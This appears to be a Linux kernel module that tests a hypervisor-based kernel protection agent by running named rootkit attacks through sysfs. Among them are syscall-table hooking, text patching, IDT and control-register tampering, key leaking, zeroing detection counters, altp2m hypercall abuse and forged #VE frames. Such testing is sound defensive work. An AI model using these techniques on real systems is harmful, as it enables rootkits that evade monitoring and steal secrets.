/* SPDX-License-Identifier: MIT */
/*
 * facet_attack: what a rootkit would do, one attack at a time, by name, through
 * /sys/kernel/facet_attack/run. Says in the kernel's log that an attack has worked; an attack that
 * is refused kills the task that wrote the name.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/kdebug.h>
#include <linux/kobject.h>
#include <linux/module.h>
#include <linux/sysfs.h>

#include <asm/desc.h>
#include <asm/trapnr.h>
#include <asm/syscall.h>

#include <xen/xen.h>
#include <xen/interface/xen.h>
#include <asm/xen/hypercall.h>
#include <asm/xen/hypervisor.h>

#include "alias.h"
#include "symbols.h"

/* mov $1337, %eax; ret */
static const u8 patch[] = {0xb8, 0x39, 0x05, 0x00, 0x00, 0xc3};

static symbols_lookup_fn *lookup;
static u8 text_before[sizeof(patch)];
static unsigned long table_before;
static gate_desc idt_before;

/* Each returns 0 if it got what it wanted. */

static int attack_table(void)
{
    unsigned long *table = (unsigned long *)lookup("sys_call_table"), evil = (unsigned long)&patch;
    unsigned long *entry = table + __NR_geteuid;

    if (!table)
        return -ENOENT;
    if (!table_before)
        table_before = *entry;
    if (alias_write(entry, *entry == table_before ? &evil : &table_before, sizeof(evil)))
        return -ENOMEM;
    pr_alert("table: sys_call_table[%d] is now %px\n", __NR_geteuid, (void *)READ_ONCE(*entry));
    return 0;
}

static int attack_text(void)
{
    u8 *text = (u8 *)lookup("__x64_sys_geteuid");
    bool undo;

    if (!text)
        return -ENOENT;
    undo = !memcmp(text, patch, sizeof(patch));
    if (!undo)
        memcpy(text_before, text, sizeof(patch));
    if (alias_write(text, undo ? text_before : patch, sizeof(patch)))
        return -ENOMEM;
    pr_alert("text: geteuid() now starts with %6phN\n", text);
    return 0;
}

static int attack_idt(void)
{
    gate_desc *idt = (gate_desc *)lookup("idt_table"), *entry = idt + X86_TRAP_OF, evil;

    if (!idt)
        return -ENOENT;
    if (!idt_before.segment)
        idt_before = *entry;
    evil = *entry;
    evil.bits.dpl ^= 3;
    if (alias_write(entry, &evil, sizeof(evil)))
        return -ENOMEM;
    pr_alert("idt: vector 4 now has dpl %u\n", entry->bits.dpl);
    return 0;
}

static int attack_key(void)
{
    u64 *key = (u64 *)lookup("keeper_key");

    if (!key)
        return -ENOENT;
    pr_alert("key: %016llx%016llx\n", key[0], key[1]);
    return 0;
}

/* The agent's own page of instructions, and the counters that would betray the attacker. */
static int attack_gate(void)
{
    u8 *gate = (u8 *)lookup("gate_call"), ret = 0xc3;

    if (!gate)
        return -ENOENT;
    if (alias_write(gate, &ret, sizeof(ret)))
        return -ENOMEM;
    pr_alert("gate: its first byte is now %x\n", *gate);
    return 0;
}

static int attack_report(void)
{
    u64 *report = (u64 *)lookup("guard_report");

    if (!report)
        return -ENOENT;
    report[1] = 0;
    pr_alert("report: the count is now %llu\n", READ_ONCE(report[1]));
    return 0;
}

/* Into every view, from here: what is reached can be used only if the next instruction runs. */
static int attack_vmfunc(void)
{
    u64 *key = (u64 *)lookup("keeper_key"), seen = 0;
    bool absent = true;

    if (!key)
        return -ENOENT;
    asm volatile("1: vmfunc\n\tmov (%[key]), %[seen]\n\tmovb $0, %[absent]\n"
                 "2:\n" _ASM_EXTABLE(1b, 2b)
                 : [seen] "+&r"(seen), [absent] "+&r"(absent)
                 : "a"(0), "c"(2), [key] "r"(key)
                 : "memory");
    if (absent) {
        pr_alert("vmfunc: there is none, and no view to go to\n");
        return -EPERM;
    }
    pr_alert("vmfunc: the key begins with %016llx\n", seen);
    return 0;
}

/* The agent's own hypercalls: Xen's hvm/hvm_op.h and facet/hvmop.h, which Linux does not have. */
struct altp2m_op {
    u32 version, cmd;
    u16 domain, pad[3];
    u64 u[8];
};

#define ALTP2M                25
#define ALTP2M_SET_STATE      2u
#define ALTP2M_SWITCH         6u
#define ALTP2M_SET_ACCESS     7u
#define ALTP2M_SET_VISIBILITY 16u
#define ALTP2M_SEAL           0x800du
#define ACCESS_RWX            7u

static int altp2m(u32 cmd, u64 first, u64 second)
{
    struct altp2m_op op = {.version = 1, .cmd = cmd, .domain = DOMID_SELF, .u = {first, second}};

    return HYPERVISOR_hvm_op(ALTP2M, &op);
}

static int attack_hypercall(void)
{
    u64 gfn = __pa(lookup("__x64_sys_geteuid")) >> PAGE_SHIFT;
    int show = altp2m(ALTP2M_SET_VISIBILITY, 1 << 16, 0), enter = altp2m(ALTP2M_SWITCH, 0, 0);
    int access = altp2m(ALTP2M_SET_ACCESS, 1 | ACCESS_RWX << 16, gfn);
    int seal = altp2m(ALTP2M_SEAL, 0xffffffff, 0), off = altp2m(ALTP2M_SET_STATE, 0, 0);

    pr_alert("hypercall: view 0 shown %d, entered %d; text made writable %d; unsealed %d; off %d\n",
             show, enter, access, seal, off);
    return show && enter && access && seal && off ? -EPERM : 0;
}

/*
 * Registers that lead into the kernel, or that keep it from being written: each is changed and put
 * back at once, unless that is refused.
 */
static bool try_msr(u32 msr, u64 flip)
{
    u64 v = __rdmsr(msr);
    bool no = wrmsrl_safe(msr, v ^ flip);

    if (!no)
        wrmsrl_safe(msr, v);
    return no;
}

#define TRY_REGISTER(name, asm_name)                                                               \
    static bool try_##name(unsigned long flip)                                                     \
    {                                                                                              \
        unsigned long v;                                                                           \
        bool no = true;                                                                            \
                                                                                                   \
        asm volatile("mov %%" asm_name ", %0" : "=r"(v));                                          \
        asm volatile("1: mov %[new], %%" asm_name "\n\tmovb $0, %[no]\n\t"                         \
                     "mov %[old], %%" asm_name "\n2:\n" _ASM_EXTABLE(1b, 2b)                       \
                     : [no] "+r"(no)                                                               \
                     : [new] "r"(v ^ flip), [old] "r"(v)                                           \
                     : "memory");                                                                  \
        return no;                                                                                 \
    }
TRY_REGISTER(cr0, "cr0")
TRY_REGISTER(cr4, "cr4")

/* Whether loading it was refused. */
#define TRY_TABLE(name)                                                                            \
    static bool try_##name(const struct desc_ptr *d)                                               \
    {                                                                                              \
        bool no = true;                                                                            \
                                                                                                   \
        asm volatile("1: " #name " %[d]\n\tmovb $0, %[no]\n2:\n" _ASM_EXTABLE(1b, 2b)              \
                     : [no] "+r"(no)                                                               \
                     : [d] "m"(*d)                                                                 \
                     : "memory");                                                                  \
        return no;                                                                                 \
    }
TRY_TABLE(lidt)
TRY_TABLE(lgdt)

static int attack_registers(void)
{
    struct desc_ptr idt, gdt;
    unsigned long flags, cr4 = boot_cpu_has(X86_FEATURE_SMEP) ? X86_CR4_SMEP : X86_CR4_FSGSBASE;
    unsigned int no = 0;

    local_irq_save(flags);
    asm volatile("sidt %0; sgdt %1" : "=m"(idt), "=m"(gdt));
    no |= try_msr(MSR_LSTAR, 0x1000) << 0 | try_msr(MSR_STAR, 1ULL << 51) << 1;
    no |= try_msr(MSR_SYSCALL_MASK, X86_EFLAGS_IF) << 2 | try_msr(MSR_IA32_SYSENTER_EIP, 64) << 3;
    no |= try_msr(MSR_EFER, EFER_SCE) << 4 | try_cr0(X86_CR0_WP) << 5 | try_cr4(cr4) << 6;
    no |= try_lidt(&idt) << 7 | try_lgdt(&gdt) << 8;
    local_irq_restore(flags);
    pr_alert("registers: refused %03x of 1ff\n", no);
    return no ? -EPERM : 0;
}

/*
 * Page tables: where the kernel has the agent's key and code there are pages of the attacker's. The
 * agent signs with what it has by its own tables.
 */
static long signature(void)
{
    long (*call)(u64, u64, u64, u64) = (void *)lookup("gate_call");

    return call(0, 1, 2, 0);
}

static int attack_remap(void)
{
    static const char *const names[] = {"keeper_key", "gate_slots", "agent_service"};
    pte_t *pte[ARRAY_SIZE(names)], before[ARRAY_SIZE(names)];
    unsigned long mine = get_zeroed_page(GFP_KERNEL), flags;
    long first = signature(), second;
    unsigned int level;
    size_t i;

    for (i = 0; i < ARRAY_SIZE(names); i++) {
        pte[i] = lookup(names[i]) ? lookup_address(lookup(names[i]), &level) : NULL;
        if (!mine || !pte[i] || level != PG_LEVEL_4K)
            return -ENOENT;
    }
    local_irq_save(flags);
    for (i = 0; i < ARRAY_SIZE(names); i++) {
        before[i] = *pte[i];
        set_pte(pte[i], pfn_pte(__pa(mine) >> PAGE_SHIFT, PAGE_KERNEL_EXEC));
        asm volatile("invlpg (%0)" ::"r"(lookup(names[i])) : "memory");
    }
    second = signature();
    for (i = 0; i < ARRAY_SIZE(names); i++) {
        set_pte(pte[i], before[i]);
        asm volatile("invlpg (%0)" ::"r"(lookup(names[i])) : "memory");
    }
    local_irq_restore(flags);
    free_page(mine);
    pr_alert("remap: signed %016lx, and with other pages there %016lx\n", first, second);
    return first == second ? -EPERM : 0;
}

/* Not an attack: the kernel's own way to write its text, the same bytes, over a page's border. */
static int attack_border(void)
{
    void *(*poke)(void *, const void *, size_t) = (void *)lookup("text_poke");
    struct mutex *text = (struct mutex *)lookup("text_mutex");
    u8 *at = (u8 *)lookup("_text") + 3 * PAGE_SIZE - 2, bytes[5];

    if (!poke || !text)
        return -ENOENT;
    mutex_lock(text);
    memcpy(bytes, at, sizeof(bytes));
    poke(at, bytes, sizeof(bytes));
    mutex_unlock(text);
    pr_alert("border: %5phN written at %px\n", bytes, at);
    return memcmp(at, bytes, sizeof(bytes)) ? -EIO : 0;
}

/*
 * An interrupt table of one's own, with a handler for #VE that only goes on behind the instruction;
 * one violation makes the information page busy, and the next is for the hypervisor to decide.
 */
extern char lidt_handler[];
extern unsigned int lidt_taken;
asm(".pushsection .text\n"
    "lidt_handler:\n"
    "    incl lidt_taken(%rip)\n"
    "    addq $2, (%rsp)\n" /* movb %al, (%rdx) */
    "    iretq\n"
    ".popsection\n"
    ".pushsection .data\n"
    ".balign 4\n"
    "lidt_taken: .long 0\n"
    ".popsection\n");

/* Whether a write of *at, once with the old value in it, was refused. */
static bool refused(u8 *at, u8 value)
{
    bool no = false;

    asm volatile("1: movb %[value], (%%rdx)\n\tjmp 3f\n"
                 "2: movb $1, %[no]\n"
                 "3:\n" _ASM_EXTABLE(1b, 2b)
                 : [no] "+r"(no)
                 : [value] "a"(value), "d"(at)
                 : "memory");
    return no;
}

static int attack_lidt(void)
{
    u8 *text = (u8 *)lookup("__x64_sys_geteuid"), before = *text;
    struct page *page = pfn_to_page(alias_pfn(text));
    gate_desc *mine = (gate_desc *)get_zeroed_page(GFP_KERNEL);
    char *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
    struct desc_ptr own = {.size = PAGE_SIZE - 1, .address = (unsigned long)mine}, theirs;
    unsigned int refusals = 0, i;
    unsigned long flags;
    bool kept;

    if (!mine || !map)
        return -ENOMEM;
    lidt_taken = 0;
    local_irq_save(flags);
    asm volatile("sidt %0" : "=m"(theirs));
    memcpy(mine, (void *)theirs.address, PAGE_SIZE);
    pack_gate(&mine[X86_TRAP_VE], GATE_INTERRUPT, (unsigned long)lidt_handler, 0, 0, __KERNEL_CS);
    kept = try_lidt(&own);
    for (i = 0; i < 4 && !kept; i++)
        refusals += refused(map + offset_in_page(text), (u8)~before);
    if (!kept)
        asm volatile("lidt %0" ::"m"(theirs));
    local_irq_restore(flags);
    vunmap(map);
    free_page((unsigned long)mine);
    if (kept) {
        pr_alert("lidt: refused\n");
        return -EPERM;
    }
    pr_alert("lidt: %u #VEs were ours, %u writes refused; geteuid() starts with %02x, was %02x\n",
             lidt_taken, refusals, *text, before);
    return *text == before ? -EPERM : 0;
}

/*
 * The agent asked for a patch that the kernel never made: of a #VE that is real, a write of the
 * kernel's text, the handler is one of ours, and it goes on to the agent's with a frame and
 * registers that it made up: REP MOVSB of memcpy(), called by the patching function, its source as
 * one likes.
 */
struct made_up {
    struct desc_ptr idt; /* the kernel's */
    u8 pad[6];
    u64 gate, rip, stack, to, from, count;
} __packed;
extern struct made_up made_up;
extern char made_up_handler[];
asm(".pushsection .text\n"
    "made_up_handler:\n"
    "    lidt made_up(%rip)\n"
    "    movq made_up+24(%rip), %rax\n"
    "    movq %rax, (%rsp)\n"
    "    movq made_up+32(%rip), %rax\n"
    "    movq %rax, 24(%rsp)\n"
    "    movq made_up+40(%rip), %rdi\n"
    "    movq made_up+48(%rip), %rsi\n"
    "    movq made_up+56(%rip), %rcx\n"
    "    movq %rdi, %rax\n"
    "    jmpq *made_up+16(%rip)\n"
    ".popsection\n"
    ".pushsection .data\n"
    ".balign 8\n"
    "made_up: .skip 64\n"
    ".popsection\n");

/*
 * Who is refused dies in the address space that the kernel patches through. The end of a task reads
 * its user memory, which is not there, and would fault for ever: the task gets its own back first,
 * unless the scheduler did that by chance.
 */
static struct task_struct *patching;
static unsigned long patching_from;

static int on_death(struct notifier_block *block, unsigned long event, void *data)
{
    if (READ_ONCE(patching) == current) {
        native_write_cr3(patching_from);
        WRITE_ONCE(patching, NULL);
    }
    return NOTIFY_DONE;
}

static struct notifier_block death = {.notifier_call = on_death};

/* Any 0xc3 in a function is a RET. */
static unsigned long find_ret(const char *name)
{
    int (*size_of)(unsigned long, unsigned long *, unsigned long *) =
        (void *)lookup("kallsyms_lookup_size_offset");
    unsigned long at = lookup(name), size, offset;

    if (!at || !size_of || !size_of(at, &size, &offset))
        return 0;
    return (unsigned long)memchr((const void *)at, 0xc3, size);
}

/* Writes to `to`; where the agent believes it, `from` is copied there. Interrupts are off. False:
 * no table of one's own can be loaded. */
static bool ask_for_patch(void *to, const void *from, gate_desc *idt, unsigned long cr3)
{
    u64 stack[2] = {find_ret("__text_poke"), 0};
    struct desc_ptr own = {.size = PAGE_SIZE - 1, .address = (unsigned long)idt};

    asm volatile("sidt %0" : "=m"(made_up.idt));
    if (try_lidt(&made_up.idt))
        return false;
    patching_from = __read_cr3();
    WRITE_ONCE(patching, current);
    memcpy(idt, (void *)made_up.idt.address, PAGE_SIZE);
    pack_gate(&idt[X86_TRAP_VE], GATE_INTERRUPT, (unsigned long)made_up_handler, 0, 0, __KERNEL_CS);
    made_up.gate = gate_offset(&((gate_desc *)made_up.idt.address)[X86_TRAP_VE]);
    made_up.rip = lookup("memcpy_erms") + 6;
    made_up.stack = (u64)stack;
    made_up.to = (u64)to;
    made_up.from = (u64)from;
    made_up.count = 16;
    native_write_cr3(cr3);
    asm volatile("lidt %[own]\n\tmovq %%rsp, %%rbx\n\tleaq 1f(%%rip), %%rax\n\t"
                 "movq %%rax, 8(%[stack])\n\tmovb %%al, (%[to])\n1:\tmovq %%rbx, %%rsp\n\t"
                 "lidt made_up(%%rip)"
                 :
                 : [own] "m"(own), [stack] "r"(stack), [to] "r"(to)
                 : "rax", "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
    native_write_cr3(patching_from);
    WRITE_ONCE(patching, NULL);
    return true;
}

static void *map_page(const void *at)
{
    struct page *page = pfn_to_page(alias_pfn(at));
    char *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

    return map ? map + offset_in_page(at) : NULL;
}

/* The key into the kernel's text, where everybody may read it, by a mapping that is
 * not the agent's. */
static int attack_alias(void)
{
    u8 *text = (u8 *)lookup("__x64_sys_geteuid"), before[16], seen[16];
    struct mm_struct **mm = (struct mm_struct **)lookup("poking_mm");
    gate_desc *idt = (gate_desc *)get_zeroed_page(GFP_KERNEL);
    void *key = map_page((void *)lookup("keeper_key")), *to = map_page(text);
    unsigned long cr3, flags;
    bool asked;

    if (!key || !to || !idt || !mm || !*mm || !find_ret("__text_poke"))
        return -ENOMEM;
    cr3 = __pa((*mm)->pgd) | (__read_cr3() & ~PAGE_MASK);
    memcpy(before, text, sizeof(before));
    local_irq_save(flags);
    asked = ask_for_patch(to, key, idt, cr3);
    memcpy(seen, text, sizeof(seen));
    asked = asked && ask_for_patch(to, before, idt, cr3);
    local_irq_restore(flags);
    if (!asked) {
        pr_alert("alias: no interrupt table of one's own\n");
        return -EPERM;
    }
    pr_alert("alias: the key was copied to geteuid(): %16phN\n", seen);
    return 0;
}

/* ---- page tables: other frames where the kernel has its own ---- */

/* Writes an entry; whether that was refused. */
static bool try_entry(u64 *at, u64 value)
{
    bool no = true;

    asm volatile("1: movq %[value], (%[at])\n\tmovb $0, %[no]\n2:\n" _ASM_EXTABLE(1b, 2b)
                 : [no] "+r"(no)
                 : [value] "r"(value), [at] "r"(at)
                 : "memory");
    return no;
}

static bool try_cr3(unsigned long cr3)
{
    bool no = true;

    asm volatile("1: movq %[cr3], %%cr3\n\tmovb $0, %[no]\n2:\n" _ASM_EXTABLE(1b, 2b)
                 : [no] "+r"(no)
                 : [cr3] "r"(cr3)
                 : "memory");
    return no;
}

#define ENTRY_FRAME 0x000ffffffffff000ULL

/* Of all page tables: the system call table's frames are the attacker's for a moment. */
static int attack_leaf(void)
{
    unsigned long at = lookup("sys_call_table"), flags;
    unsigned int level, order;
    pte_t *entry = at ? lookup_address(at, &level) : NULL;
    u64 before, mine;
    bool refused;
    void *copy;

    if (!entry || (level != PG_LEVEL_4K && level != PG_LEVEL_2M))
        return -ENOENT;
    order = level == PG_LEVEL_2M ? 9 : 0;
    copy = (void *)__get_free_pages(GFP_KERNEL, order);
    if (!copy)
        return -ENOMEM;
    memcpy(copy, (void *)(at & -(PAGE_SIZE << order)), PAGE_SIZE << order);
    before = pte_val(*entry);
    mine = (before & ~(ENTRY_FRAME & -(u64)(PAGE_SIZE << order))) | __pa(copy);
    local_irq_save(flags);
    refused = try_entry((u64 *)entry, mine);
    if (!refused)
        try_entry((u64 *)entry, before);
    asm volatile("invlpg (%0)" ::"r"(at) : "memory");
    local_irq_restore(flags);
    free_pages((unsigned long)copy, order);
    if (!refused)
        pr_alert("leaf: the system call table was at %llx\n", mine & ENTRY_FRAME);
    return refused ? -EPERM : 0;
}

/* A table of one's own below, where the kernel's text and data are. */
static u64 *copy_below(u64 entry)
{
    u64 *copy = (u64 *)__get_free_page(GFP_KERNEL);

    if (copy)
        memcpy(copy, __va(entry & ENTRY_FRAME), PAGE_SIZE);
    return copy;
}

/* Of this process' alone. */
static int attack_top(void)
{
    u64 *entry = (u64 *)pgd_offset(current->active_mm, lookup("sys_call_table")), before = *entry;
    u64 *mine = copy_below(before);
    unsigned long flags;
    bool refused;

    if (!mine)
        return -ENOMEM;
    local_irq_save(flags);
    refused = try_entry(entry, (before & ~ENTRY_FRAME) | __pa(mine));
    if (!refused)
        try_entry(entry, before);
    native_write_cr3(__read_cr3());
    local_irq_restore(flags);
    free_page((unsigned long)mine);
    if (!refused)
        pr_alert("top: a process had page tables of the attacker's\n");
    return refused ? -EPERM : 0;
}

/* A top table of one's own, loaded. */
static int attack_load(void)
{
    unsigned long cr3 = __read_cr3(), flags;
    u64 *top = (u64 *)__get_free_pages(GFP_KERNEL, 1), *mine;
    unsigned int slot = pgd_index(lookup("sys_call_table"));
    bool refused;

    mine = top ? copy_below(((u64 *)__va(cr3 & ENTRY_FRAME))[slot]) : NULL;
    if (!mine)
        return -ENOMEM;
    memcpy(top, __va(cr3 & ENTRY_FRAME), 2 * PAGE_SIZE);
    top[slot] = (top[slot] & ~ENTRY_FRAME) | __pa(mine);
    local_irq_save(flags);
    refused = try_cr3((cr3 & ~ENTRY_FRAME) | __pa(top));
    if (!refused)
        native_write_cr3(cr3);
    local_irq_restore(flags);
    free_page((unsigned long)mine);
    free_pages((unsigned long)top, 1);
    if (!refused)
        pr_alert("load: page tables of the attacker's were loaded\n");
    return refused ? -EPERM : 0;
}

static const struct {
    const char *name;
    int (*run)(void);
} attacks[] = {
    {"table", attack_table},   {"text", attack_text},           {"idt", attack_idt},
    {"key", attack_key},       {"gate", attack_gate},           {"report", attack_report},
    {"vmfunc", attack_vmfunc}, {"hypercall", attack_hypercall}, {"lidt", attack_lidt},
    {"alias", attack_alias},   {"registers", attack_registers}, {"remap", attack_remap},
    {"border", attack_border}, {"leaf", attack_leaf},           {"top", attack_top},
    {"load", attack_load},
};

static ssize_t run_store(struct kobject *kobj, struct kobj_attribute *attr, const char *buf,
                         size_t count)
{
    size_t i;

    for (i = 0; i < ARRAY_SIZE(attacks); i++)
        if (sysfs_streq(buf, attacks[i].name)) {
            int rc = attacks[i].run();

            return rc ? rc : count;
        }
    return -EINVAL;
}

/* The kernel's text for user space: its frames have no other rights there. */
static int text_mmap(struct file *file, struct kobject *kobj, struct bin_attribute *attr,
                     struct vm_area_struct *vma)
{
    unsigned long text = lookup("__x64_sys_geteuid");

    if (vma->vm_end - vma->vm_start != PAGE_SIZE || !text)
        return -EINVAL;
    return remap_pfn_range(vma, vma->vm_start, __pa(text) >> PAGE_SHIFT, PAGE_SIZE,
                           vma->vm_page_prot);
}

static struct bin_attribute text_attribute = {
    .attr = {.name = "text", .mode = 0600}, .size = PAGE_SIZE, .mmap = text_mmap};
static struct kobj_attribute run_attribute = __ATTR(run, 0200, NULL, run_store);
static struct kobject *directory;

static int __init attack_init(void)
{
    int rc;

    lookup = symbols_open();
    if (!lookup)
        return -ENOENT;
    directory = kobject_create_and_add(KBUILD_MODNAME, kernel_kobj);
    if (!directory)
        return -ENOMEM;
    register_die_notifier(&death);
    rc = sysfs_create_bin_file(directory, &text_attribute);
    return rc ? rc : sysfs_create_file(directory, &run_attribute.attr);
}

static void __exit attack_exit(void)
{
    kobject_put(directory);
    unregister_die_notifier(&death);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attacks on this kernel, to see whether they work");
MODULE_LICENSE("Dual MIT/GPL");
